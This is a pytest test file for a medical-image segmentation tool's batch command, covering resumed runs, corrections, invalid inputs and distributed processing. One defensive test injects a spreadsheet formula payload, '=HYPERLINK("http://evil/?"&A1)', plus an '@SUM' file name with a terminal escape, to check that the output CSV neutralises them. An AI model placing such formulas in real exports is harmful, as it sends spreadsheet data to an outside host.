"""``napari-ldseg segment``: batches of images, resumed, distributed, and with invalid files."""

import csv
import errno
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import nibabel as nib
import numpy as np
import pytest
import torch
from skimage.io import imsave
from typer.testing import CliRunner

from napari_ldseg.batch.inputs import find_images, name_images
from napari_ldseg.batch.run import _Pace
from napari_ldseg.batch.worklist import read_results
from napari_ldseg.checkpoint.file import Checkpoint, load_checkpoint, save_checkpoint
from napari_ldseg.checkpoint.metadata import Calibration, ClassInfo
from napari_ldseg.cli import app
from napari_ldseg.errors import LDSegError
from napari_ldseg.inference.sampler import PosteriorSampler
from napari_ldseg.inference.segment import segment
from napari_ldseg.scans.channels import read_channels
from napari_ldseg.scans.files import read_scan
from napari_ldseg.utils.atomic import atomic_write
from napari_ldseg.utils.hashing import sha256_of
from napari_ldseg.utils.locking import exclusive_lock

from ..forked import Command, ranks

ROOT = Path(__file__).parents[2]
COUNT = 20
KINDS = ("labels", "sample_sd", "predictive_sd")


def oblique_affine():
    """Anisotropic, tilted about two axes, axes permuted and flipped: (i, j, k) to about (A, S, L)."""
    a, b = 0.3, 0.2
    x = np.array([[1, 0, 0], [0, np.cos(a), -np.sin(a)], [0, np.sin(a), np.cos(a)]])
    z = np.array([[np.cos(b), -np.sin(b), 0], [np.sin(b), np.cos(b), 0], [0, 0, 1]])
    axes = np.array([[0, 0, -1], [1, 0, 0], [0, 1, 0]]) * [0.7, 3.0, 1.1]
    affine = np.eye(4)
    affine[:3, :3], affine[:3, 3] = x @ z @ axes, (12, -34, 56)
    return affine


def write_volume(path, seed=0, shape=(14, 9, 12)):
    path.parent.mkdir(parents=True, exist_ok=True)
    data = np.random.default_rng(seed).integers(0, 1000, shape).astype(np.int16)
    image = nib.Nifti1Image(data, oblique_affine())
    image.header.set_xyzt_units("mm")
    nib.save(image, path)
    return path


@pytest.fixture
def model(tiny_checkpoint, tmp_path):
    """A tiny 3D checkpoint on disk."""
    return save_checkpoint(tiny_checkpoint(3), tmp_path / "model.safetensors")


@pytest.fixture
def scans(tmp_path):
    """A folder with five small volumes."""
    for i in range(5):
        write_volume(tmp_path / "scans" / f"scan{i}.nii.gz", i)
    return tmp_path / "scans"


@pytest.fixture
def run(model, tmp_path):
    """Call the command; returns its exit code, standard output and standard error."""

    def call(*files, out=tmp_path / "out", model=model, n=3, seed=0):
        arguments = ["segment", *map(str, files), "-o", str(out), "--model", str(model)]
        arguments += ["-n", str(n), "--seed", str(seed), "--accelerator", "cpu"]
        result = CliRunner().invoke(app, arguments)
        assert result.exception is None or isinstance(result.exception, SystemExit), result
        return result

    return call


def arguments_for(files, out, model, *more):
    return [
        *("segment", *map(str, files), "-o", str(out)),
        *("--model", str(model), "-n", "3", "--accelerator", "cpu", *more),
    ]


def command(files, out, model, *more):
    return [sys.executable, "-m", "napari_ldseg", *arguments_for(files, out, model, *more)]


def environment():
    return {**os.environ, "PYTHONPATH": str(ROOT), "OMP_NUM_THREADS": "1"}


def rows(out):
    with (out / "volumes.csv").open(newline="") as file:
        return list(csv.DictReader(file))


def contents(out):
    """Return the bytes of all result images, and the rows of the table."""
    files = {str(p.relative_to(out)): p.read_bytes() for k in KINDS for p in (out / k).iterdir()}
    return files, rows(out)


def leftovers(out):
    return [p for p in out.rglob(".*") if p.is_file()]


def test_a_batch_end_to_end(run, scans, model, tmp_path):
    result, out = run(scans), tmp_path / "out"
    assert result.exit_code == 0 and "5 segmented" in result.stdout
    assert len([line for line in result.stderr.splitlines() if "segmented in" in line]) == 5
    checkpoint = load_checkpoint(model)
    for i in range(5):
        posterior = segment(checkpoint, read_scan(scans / f"scan{i}.nii.gz"), 3, device="cpu")
        for kind in KINDS:
            written = read_scan(out / kind / f"scan{i}.nii.gz").array
            np.testing.assert_array_equal(written, getattr(posterior, kind))
        record = json.loads((out / "records" / f"scan{i}.json").read_text())
        assert record["provenance"]["checkpoint_sha256"] == checkpoint.sha256
        assert record["provenance"]["image_sha256"] and record["provenance"]["seed"] == 0
    table = rows(out)
    errors = [float(row["expected_error"]) for row in table]
    assert len(table) == 5 and errors == sorted(errors, reverse=True) and errors[0] > errors[-1]
    row = next(row for row in table if row["case"] == "scan0")
    label = np.asarray(nib.load(out / "labels" / "scan0.nii.gz").dataobj)
    voxel = abs(np.linalg.det(oblique_affine()[:3, :3]))
    assert float(row["class 1"]) == pytest.approx((label == 1).sum() * voxel, rel=1e-5)
    assert float(row["class 1 low"]) <= float(row["class 1 high"])
    assert row["unit"] == "mm3" and row["intervals calibrated"] == "no"
    assert 0 < float(row["expected_error"]) < 1
    assert not leftovers(out)


def test_results_are_on_the_scans_own_oblique_grid(run, scans, tmp_path):
    assert run(scans / "scan0.nii.gz").exit_code == 0
    original = nib.load(scans / "scan0.nii.gz")
    for kind in KINDS:
        made = nib.load(tmp_path / "out" / kind / "scan0.nii.gz")
        assert made.shape == original.shape
        np.testing.assert_allclose(made.affine, original.affine, atol=1e-5)
        assert made.header.get_xyzt_units()[0] == "mm"
        for code in ("sform_code", "qform_code"):
            assert made.header[code] == original.header[code]
        assert made.header["intent_code"] == (1002 if kind == "labels" else 0)
    assert np.asarray(nib.load(tmp_path / "out" / "labels" / "scan0.nii.gz").dataobj).max() == 1


def test_calibrated_intervals_are_in_the_table(tiny_checkpoint, run, scans, tmp_path):
    bare = tiny_checkpoint(3)
    found = Calibration(
        samples=3, steps=4, split="validation", cases=40, temperature=1.5, volume_factors=(4.0,)
    ).model_copy(update={"rank_correlation": 0.25})
    metadata = bare.metadata.model_copy(update={"calibration": found})
    path = save_checkpoint(Checkpoint(metadata, bare.model), tmp_path / "c.safetensors")
    assert run(scans, model=path).exit_code == 0
    (first, *_) = rows(tmp_path / "out")
    assert first["intervals calibrated"] == "yes" and "95%" in first["intervals"]
    assert first["ranking"].startswith("The expected error does not rank cases")
    assert "was 0.25 on the cases of 40 validation patients" in first["ranking"]
    assert run(scans, model=path, n=4).exit_code == 0
    (first, *_) = rows(tmp_path / "out")
    assert (
        first["intervals calibrated"] == "no" and "calibrated for 3 samples" in first["intervals"]
    )


def test_classes_with_the_names_of_other_columns(tiny_checkpoint, run, scans, tmp_path):
    names = ("background", "image", "a", "a low", "samples")
    bare = tiny_checkpoint(3, 5)
    classes = tuple(ClassInfo(name=name, colour=f"#00000{i}") for i, name in enumerate(names))
    renamed = Checkpoint(bare.metadata.model_copy(update={"classes": classes}), bare.model)
    path = save_checkpoint(renamed, tmp_path / "c.safetensors")
    assert run(scans / "scan0.nii.gz", model=path).exit_code == 0
    (row,) = rows(tmp_path / "out")
    assert row["image"] == str(scans / "scan0.nii.gz") and row["samples"] == "3"
    record = json.loads((tmp_path / "out" / "records" / "scan0.json").read_text())["classes"]
    for name, column in (("image", "class image"), ("a", "a"), ("a low", "class a low")):
        assert float(row[column]) == pytest.approx(record[name]["size"], abs=1e-3)
        assert float(row[f"{column} low"]) == pytest.approx(record[name]["interval"][0], abs=1e-3)


def test_no_cell_of_the_table_is_a_formula(tiny_checkpoint, run, scans, tmp_path):
    evil = '=HYPERLINK("http://evil/?"&A1)'
    classes = (
        ClassInfo(name="background", colour="#000000"),
        ClassInfo(name=evil, colour="#ff0000"),
        ClassInfo(name="-1+1", colour="#00ff00"),
    )
    bare = tiny_checkpoint(3, 3)
    named = Checkpoint(bare.metadata.model_copy(update={"classes": classes}), bare.model)
    path = save_checkpoint(named, tmp_path / "evil.safetensors")
    scan = (scans / "scan0.nii.gz").rename(scans / "@SUM(1)\x1b[2J.nii.gz")
    assert run(scan, model=path).exit_code == 0
    text = (tmp_path / "out" / "volumes.csv").read_text()
    assert "\x1b" not in text
    (row,) = rows(tmp_path / "out")
    assert row["case"] == "'@SUM(1)?[2J"
    assert float(row[f"'{evil}"]) >= 0 and float(row["'-1+1"]) >= 0
    again = run(scan, model=path)
    assert again.exit_code == 0 and "1 already there" in again.stdout


@pytest.mark.slow
def test_finished_cases_are_skipped_until_something_changes(run, scans, tmp_path):
    out = tmp_path / "out"
    run(scans)
    made = {p: p.stat().st_mtime_ns for p in out.rglob("*.nii.gz")}
    assert "0 segmented, 5 already there" in run(scans).stdout
    assert made == {p: p.stat().st_mtime_ns for p in out.rglob("*.nii.gz")}
    (out / "sample_sd" / "scan3.nii.gz").unlink()
    assert "1 segmented, 4 already there" in run(scans).stdout
    write_volume(scans / "scan1.nii.gz", seed=77)
    assert "1 segmented, 4 already there" in run(scans).stdout
    result = run(scans, n=1)
    assert "5 segmented, 0 already there" in result.stdout
    assert not list((out / "sample_sd").iterdir()) and len(rows(out)) == 5
    moved = scans.rename(tmp_path / "elsewhere")
    assert "0 segmented, 5 already there" in run(moved, n=1).stdout


def test_invalid_files_are_listed_and_the_others_segmented(run, scans, tmp_path, assert_sentence):
    (scans / "broken.nii.gz").write_bytes(b"not a NIfTI file")
    (scans / "cut.nii.gz").write_bytes((scans / "scan0.nii.gz").read_bytes()[:300])
    nib.save(nib.Nifti1Image(np.zeros((9, 9, 9), np.int16), np.eye(4)), scans / "blank.nii.gz")
    imsave(scans / "flat.png", np.zeros((8, 8), np.uint8), check_contrast=False)
    result = run(scans)
    assert result.exit_code == 1 and "5 segmented, 0 already there, 4 failed" in result.stdout
    failed = [line for line in result.stderr.splitlines() if line.startswith("failed: ")]
    assert len(failed) == 4
    for name in ("broken.nii.gz", "cut.nii.gz", "blank.nii.gz", "flat.png"):
        (line,) = [line for line in failed if name in line.split(": ")[1]]
        assert_sentence(line.split(": ", 2)[2], name)
    assert len(rows(tmp_path / "out")) == 5
    assert not (tmp_path / "out" / "labels" / "broken.nii.gz").exists()
    write_volume(scans / "broken.nii.gz", 9)
    assert "1 segmented, 5 already there, 3 failed" in run(scans).stdout
    # A case whose image is no longer valid is not in the table.
    (scans / "scan1.nii.gz").write_bytes(b"overwritten")
    assert "0 segmented, 5 already there, 4 failed" in run(scans).stdout
    assert len(rows(tmp_path / "out")) == 5
    assert "scan1" not in {row["case"] for row in rows(tmp_path / "out")}


def test_exit_code_if_nothing_could_be_segmented(run, scans, tmp_path, assert_sentence):
    (tmp_path / "bad.nii").write_bytes(b"x" * 400)
    assert run(tmp_path / "bad.nii").exit_code == 2
    for arguments, more, word in (
        ((tmp_path / "nowhere",), {}, "nowhere"),
        ((tmp_path / "*.png",), {}, "*.png"),
        ((scans,), {"model": "no-model"}, "no-model"),
        ((scans,), {"out": tmp_path / "bad.nii"}, "is a file"),
    ):
        result = run(*arguments, **more)
        assert result.exit_code == 2 and not result.stdout
        assert_sentence(result.stderr.strip(), word)


def test_a_folder_that_cannot_be_written_stops_the_run_first(
    run, scans, tmp_path, assert_sentence, monkeypatch
):
    file = tmp_path / "file"
    file.write_text("")
    result = run(scans, out=file / "out")
    assert result.exit_code == 2 and not result.stdout
    assert_sentence(result.stderr.strip(), str(file / "out"))

    def read_only(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")

    (tmp_path / "out").mkdir()
    monkeypatch.setattr("napari_ldseg.utils.atomic.tempfile.TemporaryFile", read_only)
    result = run(scans)
    assert result.exit_code == 2 and not result.stdout
    assert_sentence(result.stderr.strip(), "Permission denied")


@pytest.mark.slow
def test_two_runs_cannot_use_one_folder(run, scans, model, tmp_path, assert_sentence):
    out = tmp_path / "out"
    assert run(scans).exit_code == 0
    before = contents(out)
    with exclusive_lock(out):
        codes, output = ranks(2, *arguments_for([scans], out, model, "--seed", "1"))
    assert codes[0] == 2
    assert_sentence(output.strip(), "Another run", str(out))
    assert contents(out) == before
    assert "5 already there" in run(scans).stdout


def test_json_on_standard_output(scans, model, tmp_path):
    (scans / "broken.nii").write_bytes(b"")
    result = CliRunner().invoke(app, arguments_for([scans], tmp_path / "out", model, "--json"))
    outcome = json.loads(result.stdout)
    assert result.exit_code == 1 and outcome["segmented"] == 5 and outcome["skipped"] == 0
    (failure,) = outcome["failed"]
    assert failure["image"] == str(scans / "broken.nii") and failure["reason"]
    assert Path(outcome["table"]).is_file()


def test_names_of_files_and_folders(tmp_path):
    for name in (
        "a/scan.nii.gz",
        "b/scan.nii.gz",
        "b/x/scan.nii",
        "a/only.nii.gz",
        "a/.hidden.nii",
    ):
        write_volume(tmp_path / name)
    write_volume(tmp_path / "a" / "Only.nii")
    (tmp_path / "a" / "notes.txt").write_text("no image")
    found = name_images(
        find_images([tmp_path / "**" / "*.nii*", tmp_path / "a"], tmp_path / "out"), {}
    )
    names = {item.path.relative_to(tmp_path).as_posix(): item.name for item in found}
    assert names == {
        "a/only.nii.gz": "only_nii_gz",
        "a/Only.nii": "Only_nii",
        "a/scan.nii.gz": "a__scan",
        "b/scan.nii.gz": "b__scan",
        "b/x/scan.nii": "x__scan",
    }
    out = tmp_path / "a" / "out"
    write_volume(out / "labels" / "old.nii.gz")
    assert len(find_images([tmp_path / "a" / "**" / "*.nii.gz"], out)) == 2


def test_files_of_one_name_in_different_folders_keep_their_own_results(run, tmp_path):
    one, two = (write_volume(tmp_path / f / "scan.nii.gz", i) for i, f in enumerate("ab"))
    assert run(one, two).exit_code == 0
    labels = [nib.load(tmp_path / "out" / "labels" / f"{f}__scan.nii.gz") for f in "ab"]
    assert not np.array_equal(labels[0].dataobj, labels[1].dataobj)
    # The same in two runs.
    run(one, out=tmp_path / "later")
    before = (tmp_path / "later" / "labels" / "scan.nii.gz").read_bytes()
    result = run(two, out=tmp_path / "later")
    assert result.exit_code == 2 and "already holds scan made from" in result.stderr
    assert (tmp_path / "later" / "labels" / "scan.nii.gz").read_bytes() == before
    assert "1 already there" in run(one, out=tmp_path / "later").stdout


def correct(label, change):
    """Save ``label`` as another program would, with its values changed."""
    image = nib.load(label)
    data = change(np.asarray(image.dataobj).copy())
    nib.save(nib.Nifti1Image(data, image.affine, image.header), label)
    return label.read_bytes()


def test_a_corrected_label_is_kept_and_its_volumes_are_in_the_table(run, scans, tmp_path):
    out = tmp_path / "out"
    label = out / "labels" / "scan0.nii.gz"
    run(scans)
    (before,) = [row for row in rows(out) if row["case"] == "scan0"]
    corrected = correct(label, lambda data: data * (np.arange(12) < 6))
    voxel = abs(np.linalg.det(oblique_affine()[:3, :3]))
    volume = (np.asarray(nib.load(label).dataobj) == 1).sum() * voxel
    assert volume < float(before["class 1"])
    for n, counts in ((3, "0 segmented, 4 already there"), (2, "4 segmented, 0 already there")):
        result = run(scans, n=n)
        assert result.exit_code == 0
        assert f"{counts}, 1 corrected and kept, 0 failed" in result.stdout
        assert label.read_bytes() == corrected
        *others, row = rows(out)
        assert row["case"] == "scan0" and row["corrected"] == "yes"
        assert float(row["class 1"]) == pytest.approx(volume, rel=1e-5)
        assert row["expected_error"] == row["class 1 low"] == row["intervals"] == ""
        assert len(others) == 4 and {row["corrected"] for row in others} == {"no"}
    # After the label is moved away, it is made again.
    label.unlink()
    assert "1 segmented, 4 already there, 0 failed" in run(scans, n=2).stdout
    assert {row["corrected"] for row in rows(out)} == {"no"}


def test_an_invalid_correction_is_reported_and_kept(run, scans, tmp_path, assert_sentence):
    out, scan = tmp_path / "out", scans / "scan0.nii.gz"
    label = out / "labels" / "scan0.nii.gz"
    run(scan)
    cropped = correct(label, lambda data: data[1:])
    result = run(scan)
    assert result.exit_code == 2 and label.read_bytes() == cropped and not rows(out)
    assert_sentence(result.stderr.splitlines()[-1].split(": ", 2)[2], "labels/scan0", "grid")
    # The correction of an image that was replaced since.
    label.unlink()
    run(scan)
    corrected = correct(label, lambda data: 1 - data)
    write_volume(scan, seed=77)
    result = run(scan)
    assert result.exit_code == 2 and "was changed after it was written" in result.stderr
    assert label.read_bytes() == corrected


def test_files_of_other_programs_are_never_overwritten(run, scans, tmp_path):
    foreign = write_volume(tmp_path / "other" / "labels" / "scan0.nii.gz")
    before = foreign.read_bytes()
    for _ in range(2):
        result = run(scans / "scan0.nii.gz", out=tmp_path / "other")
        assert result.exit_code == 2 and "not a result of this command" in result.stderr
        assert foreign.read_bytes() == before


def fill_disk_at(kind, monkeypatch):
    """Let the writing of this kind of files fail; return the original function."""
    real = nib.save

    def full(image, path):
        real(image, path)
        if kind in str(path):
            raise OSError(28, "No space left on device")

    monkeypatch.setattr("nibabel.save", full)
    return real


def test_a_full_disk_leaves_no_incomplete_case(run, scans, tmp_path, monkeypatch):
    real = fill_disk_at("sample_sd", monkeypatch)
    result = run(scans / "scan0.nii.gz")
    assert result.exit_code == 2 and "No space left" in result.stderr
    assert not list((tmp_path / "out").rglob("*.nii.gz")) and not leftovers(tmp_path / "out")
    monkeypatch.setattr("nibabel.save", real)
    assert run(scans / "scan0.nii.gz").exit_code == 0


def test_a_failed_second_run_keeps_the_results_of_the_first(run, scans, tmp_path, monkeypatch):
    scan, out = scans / "scan0.nii.gz", tmp_path / "out"
    run(scan)
    before, record = contents(out)[0], (out / "records" / "scan0.json").read_bytes()
    fill_disk_at("predictive_sd", monkeypatch)
    result = run(scan, n=2)
    assert result.exit_code == 2 and "No space left" in result.stderr
    assert contents(out)[0] == before and not leftovers(out)
    assert (out / "records" / "scan0.json").read_bytes() == record
    assert "1 already there" in run(scan).stdout


@pytest.mark.parametrize("corrected", [False, True])
def test_killed_between_two_files(corrected, run, scans, tmp_path, monkeypatch):
    scan, out = scans / "scan0.nii.gz", tmp_path / "out"
    label = out / "labels" / "scan0.nii.gz"
    run(scan, seed=1)
    first, real = label.read_bytes(), os.replace

    class Killed(BaseException):
        pass

    def kill(source, target):
        if Path(target).parent.name == "sample_sd":
            raise Killed
        real(source, target)

    monkeypatch.setattr("os.replace", kill)
    with pytest.raises(Killed):
        run(scan, n=2)
    monkeypatch.setattr("os.replace", real)
    assert label.read_bytes() != first
    before = correct(label, lambda data: 1 - data) if corrected else label.read_bytes()
    result = run(scan, n=2)
    assert label.read_bytes() == before
    assert ("1 corrected and kept" if corrected else "1 segmented") in result.stdout


def test_2d_images_and_volumes_with_a_2d_model(tiny_checkpoint, run, tmp_path):
    path = save_checkpoint(tiny_checkpoint(2), tmp_path / "flat.safetensors")
    pixels = np.random.default_rng(0).integers(0, 255, (20, 17)).astype(np.uint8)
    imsave(tmp_path / "photo.png", pixels, check_contrast=False)
    volume = write_volume(tmp_path / "volume.nii.gz")
    assert run(tmp_path / "photo.png", volume, model=path).exit_code == 0
    out = tmp_path / "out" / "labels"
    assert nib.load(out / "photo.nii.gz").shape == (17, 20, 1)
    assert nib.load(out / "volume.nii.gz").shape == nib.load(volume).shape
    assert {row["case"]: row["unit"] for row in rows(tmp_path / "out")} == {
        "photo": "voxels",
        "volume": "mm3",
    }


@pytest.mark.slow
def test_two_processes_give_bitwise_the_results_of_one(one_thread, scans, model, tmp_path):
    (scans / "broken.nii.gz").write_bytes(b"not a NIfTI file")
    one = CliRunner().invoke(app, arguments_for([scans], tmp_path / "one", model, "--json"))
    assert one.exit_code == 1 and json.loads(one.stdout)["segmented"] == 5, one.stderr
    expected = contents(tmp_path / "one")
    for out, launch in (("two", ("--devices", "2")), ("run", ())):
        arguments = command([scans], tmp_path / out, model, *launch, "--json")
        if out == "run":
            torchrun = ("-m", "torch.distributed.run", "--nproc_per_node", "2")
            arguments = [sys.executable, *torchrun, *arguments[1:]]
        end = subprocess.run(
            arguments, capture_output=True, text=True, env=environment(), timeout=180, cwd=tmp_path
        )
        assert end.returncode == 1, end.stderr
        outcome = json.loads(end.stdout)
        assert outcome["segmented"] == 5 and len(outcome["failed"]) == 1
        assert "process 1: scan0" in end.stderr
        assert contents(tmp_path / out) == expected


@pytest.fixture(scope="module")
def uninterrupted(tiny_checkpoint, tmp_path_factory, one_thread):
    """Twenty volumes, a model, and the results of an uninterrupted run."""
    folder = tmp_path_factory.mktemp("uninterrupted")
    for i in range(COUNT):
        write_volume(folder / "scans" / f"scan{i}.nii.gz", i)
    model = save_checkpoint(tiny_checkpoint(3), folder / "model.safetensors")
    arguments = arguments_for([folder / "scans"], folder / "out", model)
    assert CliRunner().invoke(app, arguments).exit_code == 0
    return folder / "scans", folder / "out", model


@pytest.mark.slow
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGINT, signal.SIGTERM])
def test_stopped_in_the_middle_and_continued(number, uninterrupted, tmp_path):
    scans, expected, model = uninterrupted
    out = tmp_path / "out"
    process = Command(*arguments_for([scans], out, model))
    while "segmented in" not in process.stderr.readline():
        assert process.poll() is None
    time.sleep(0.1)
    process.send_signal(number)
    errors = process.communicate(60)
    done = [path for kind in KINDS for path in (out / kind).glob("scan*.nii.gz")]
    assert 0 < len(done) < 3 * COUNT
    for path in done:
        assert np.isfinite(np.asarray(nib.load(path).dataobj)).all()
    if number != signal.SIGKILL:
        assert process.returncode == 130 and "to continue" in errors and not leftovers(out)
    result = CliRunner().invoke(app, arguments_for([scans], out, model, "--json"))
    outcome = json.loads(result.stdout)
    assert outcome["skipped"] > 0 and outcome["segmented"] + outcome["skipped"] == COUNT
    assert contents(out) == contents(expected) and not leftovers(out)


def test_the_unfinished_record_of_a_killed_run_is_no_case(run, scans, tmp_path):
    out = tmp_path / "out"
    assert run(scans).exit_code == 0
    expected, record = contents(out), out / "records" / "scan1.json"
    (record.parent / ".scan1.json.0123abcd.json").write_bytes(record.read_bytes())
    assert [case.name for case in read_results(out).cases if case.name.startswith(".")] == []
    assert run(scans).exit_code == 0
    assert contents(out) == expected and not leftovers(out)


def test_results_respect_the_umask_and_other_programs_files_are_kept(run, scans, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    swap = out / ".volumes.csv.swp"
    swap.write_text("an open editor's")
    before = os.umask(0o077)
    try:
        assert run(scans / "scan0.nii.gz").exit_code == 0
    finally:
        os.umask(before)
    assert swap.exists()
    made = [out / "volumes.csv", *out.rglob("scan0*")]
    assert len(made) == 5 and {path.stat().st_mode & 0o777 for path in made} == {0o600}


def test_leftovers_of_a_killed_process_are_deleted(run, scans, tmp_path):
    out = tmp_path / "out"
    killed = [
        atomic_write(path, ".part")
        for path in (out / ".unfinished" / "old.labels.nii.gz", out / "records" / "scan0.json")
    ]
    stale = [writing.__enter__() for writing in killed]
    assert all(path.exists() for path in stale)
    assert run(scans / "scan0.nii.gz").exit_code == 0
    assert not leftovers(out) and not (out / ".unfinished").exists()


@pytest.mark.slow
def test_processes_end_with_their_parent(uninterrupted, tmp_path):
    scans, _, model = uninterrupted
    first = Command(*arguments_for([scans], tmp_path / "out", model, "--devices", "2"))
    while "process 0" not in first.stderr.readline():
        assert first.poll() is None
    first.kill()
    # Standard error is closed only when the second process ends.
    assert "so this one stops too" in first.communicate(60)
    assert 0 < len(list((tmp_path / "out" / "records").iterdir())) < COUNT


def test_expected_error_is_one_minus_the_expected_dice(tiny_checkpoint):
    image = np.zeros((4, 4), np.float32)
    posterior = PosteriorSampler(tiny_checkpoint(2, classes=3), image).posterior

    def error_of(p):
        posterior._mean = torch.tensor(p, dtype=torch.float32).reshape(3, 4, 4)
        return posterior.expected_error()

    sure = np.zeros((3, 16))
    sure[0, 4:], sure[1, :4] = 1, 1
    assert error_of(sure) == 0
    half = sure.copy()
    half[1, :4], half[2, :4] = 0.6, 0.4
    assert error_of(half) == pytest.approx(1 - 2 * 2.4 / (2.4 + 4))
    outside = sure.copy()
    outside[0, 4:], outside[1, 4:] = 0.9, 0.1
    assert error_of(outside) == pytest.approx(1 - 2 * 4 / (5.2 + 4))
    nothing = np.zeros((3, 16))
    nothing[0] = 1
    assert error_of(nothing) == 1


def test_help_is_complete_and_does_not_import_torch():
    probe = "import sys, napari_ldseg.cli; print('torch' in sys.modules)"
    answer = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, env=environment()
    )
    assert answer.stdout.strip() == "False"
    text = CliRunner().invoke(app, ["segment", "--help"]).stdout
    for word in ("volumes.csv", "--devices", "--nodes", "Exit codes", "Example:"):
        assert word in text


def test_a_link_has_its_own_name(tmp_path):
    store = write_volume(tmp_path / "store" / "3f2a9c.nii.gz")
    (tmp_path / "scans").mkdir()
    (tmp_path / "scans" / "patient1.nii.gz").symlink_to(store)
    (found,) = name_images(find_images([tmp_path / "scans"], tmp_path / "out"), {})
    assert found.name == "patient1" and found.path.parent == tmp_path / "scans"


def test_two_images_cannot_have_one_name(tmp_path):
    for name in ("x.nii", "x.png", "x_nii.nii"):
        (tmp_path / name).write_bytes(b"")
    with pytest.raises(LDSegError, match="name of two images"):
        name_images(find_images([tmp_path], tmp_path / "out"), {})


def test_skipped_images_in_sub_folders_are_reported(run, tmp_path, assert_sentence):
    write_volume(tmp_path / "only" / "p1" / "T1.nii.gz")
    write_volume(tmp_path / "only" / "p2" / "T1.nii.gz", 1)
    result = run(tmp_path / "only")
    pattern = f"{tmp_path}/only/**/*"
    assert result.exit_code == 2
    assert_sentence(result.stderr.strip(), "2 images in sub-folders", f"'{pattern}'")
    write_volume(tmp_path / "only" / "loose.nii.gz", 2)
    write_volume(tmp_path / "only" / ".trash" / "gone.nii.gz", 2)
    result = run(tmp_path / "only", out=tmp_path / "only" / "out")
    assert "1 segmented" in result.stdout and "Skipped 2 images in sub" in result.stderr
    found = []
    find_images([tmp_path / "only", tmp_path / "only" / "p1", pattern], tmp_path, found.append)
    assert not found
    result = run(pattern, out=tmp_path / "only" / "out")
    assert "2 segmented, 1 already there" in result.stdout and "Skipped" not in result.stderr


def test_a_folder_with_a_link_to_itself(run, tmp_path):
    write_volume(tmp_path / "scans" / "one.nii.gz")
    (tmp_path / "scans" / "again").symlink_to(".")
    result = run(tmp_path / "scans" / "**" / "*.nii.gz")
    assert "1 segmented" in result.stdout and rows(tmp_path / "out")[0]["case"] == "one"
    result = run(tmp_path / "scans")
    assert "1 already there" in result.stdout and "Skipped" not in result.stderr


def test_an_image_keeps_its_name_when_others_are_added(run, tmp_path):
    for i, name in enumerate("abc"):
        write_volume(tmp_path / name / "scan.nii.gz", i)
    run(tmp_path / "a")
    assert "1 segmented, 1 already" in run(tmp_path / "a", tmp_path / "b").stdout
    assert "1 segmented, 2 already" in run(*(tmp_path / name for name in "cba")).stdout
    names = {row["image"]: row["case"] for row in rows(tmp_path / "out")}
    assert len(rows(tmp_path / "out")) == 3
    assert {Path(image).parent.name: case for image, case in names.items()} == {
        "a": "scan",
        "b": "b__scan",
        "c": "c__scan",
    }


def test_invalid_arguments_are_reported_before_anything_is_written(
    run, scans, tmp_path, assert_sentence, monkeypatch
):
    (scans / "slice1.jp2").write_bytes(b"x")
    result = run(scans / "slice1.jp2", scans / "scan0.nii.gz")
    assert result.exit_code == 2 and not (tmp_path / "out").exists()
    assert_sentence(result.stderr.strip(), "slice1.jp2", ".nii.gz", "DICOM")
    result = run("x" * 300)
    assert result.exit_code == 2
    assert "x cannot be read: File name too long" in result.stderr
    (tmp_path / "latin").mkdir()
    (tmp_path / "latin" / os.fsdecode(b"sch\xe4del.png")).write_bytes(b"")
    result = run(tmp_path / "latin")
    assert result.exit_code == 2 and not (tmp_path / "out").exists()
    assert_sentence(result.stderr.strip(), "del.png", "rename")
    result = run(scans, out=tmp_path / ("y" * 300))
    assert result.exit_code == 2 and "File name too long" in result.stderr

    def forbidden(path):
        raise PermissionError(errno.EACCES, "Permission denied", str(path))

    monkeypatch.setattr(Path, "iterdir", forbidden)
    result = run(scans)
    assert result.exit_code == 2
    assert_sentence(result.stderr.strip(), str(scans), "Permission denied")


def test_records_of_earlier_versions(run, scans, tmp_path):
    """The expected error was called doubt; a record without either is made again."""
    out = tmp_path / "out"
    run(scans)
    expected = rows(out)
    for name in ("scan0", "scan1"):
        path = out / "records" / f"{name}.json"
        record = json.loads(path.read_text())
        error = record.pop("expected_error")
        if name == "scan0":
            record["doubt"] = error
        path.write_text(json.dumps(record))
    assert "1 segmented, 4 already there, 0 failed" in run(scans).stdout
    assert rows(out) == expected


def test_the_time_left_ignores_skipped_images(monkeypatch):
    now = [0.0]
    monkeypatch.setattr("napari_ldseg.batch.run.time.monotonic", lambda: now[0])
    pace = _Pace(10)
    for seconds, skipped in ((1.0, True), (1.0, True), (30.0, False)):
        now[0] += seconds
        pace.finish(seconds, skipped)
    assert pace.seconds_left() == pytest.approx(30 * 7)
    now[0] += 15
    assert pace.seconds_left(0.5) == pytest.approx(30 * 6.5)
    assert _Pace(10).seconds_left() is None


@pytest.fixture
def channels(tmp_path, tiny_checkpoint):
    """A folder with case a in two files, case b in one 4D file, and a model of two channels."""
    folder = tmp_path / "channels"
    for i in range(2):
        write_volume(folder / f"a_000{i}.nii.gz", i)
    both = np.stack([nib.load(folder / f"a_000{i}.nii.gz").dataobj for i in range(2)], axis=-1)
    image = nib.Nifti1Image(both, oblique_affine())
    image.header.set_xyzt_units("mm")
    nib.save(image, folder / "b.nii.gz")
    return folder, save_checkpoint(tiny_checkpoint(3, channels=2), tmp_path / "two.safetensors")


def test_channels_in_files_or_in_the_last_axis_give_the_same_on_their_own_grid(
    run, channels, tmp_path
):
    (folder, model), out = channels, tmp_path / "out"
    result = run(folder, model=model)
    assert result.exit_code == 0 and "2 segmented" in result.stdout
    checkpoint = load_checkpoint(model)
    scan = read_channels([folder / "a_0000.nii.gz", folder / "a_0001.nii.gz"])
    posterior = segment(checkpoint, scan, 3, device="cpu")
    for kind in KINDS:
        for name in "ab":
            written = nib.load(out / kind / f"{name}.nii.gz")
            assert written.shape == (14, 9, 12)
            np.testing.assert_allclose(written.affine, oblique_affine(), atol=1e-6)
            read = read_scan(out / kind / f"{name}.nii.gz")
            np.testing.assert_array_equal(read.array, getattr(posterior, kind))
    record = json.loads((out / "records" / "a.json").read_text())
    files = [folder / f"a_000{i}.nii.gz" for i in range(2)]
    assert record["channel_files"] == [str(file) for file in files]
    assert record["made_with"]["image_file_sha256"] == [sha256_of(file) for file in files]
    assert sorted(row["case"] for row in rows(out)) == ["a", "b"]

    assert "2 already there" in run(folder, model=model).stdout
    assert "1 already there" in run(files[1], model=model).stdout
    write_volume(files[1], 9)
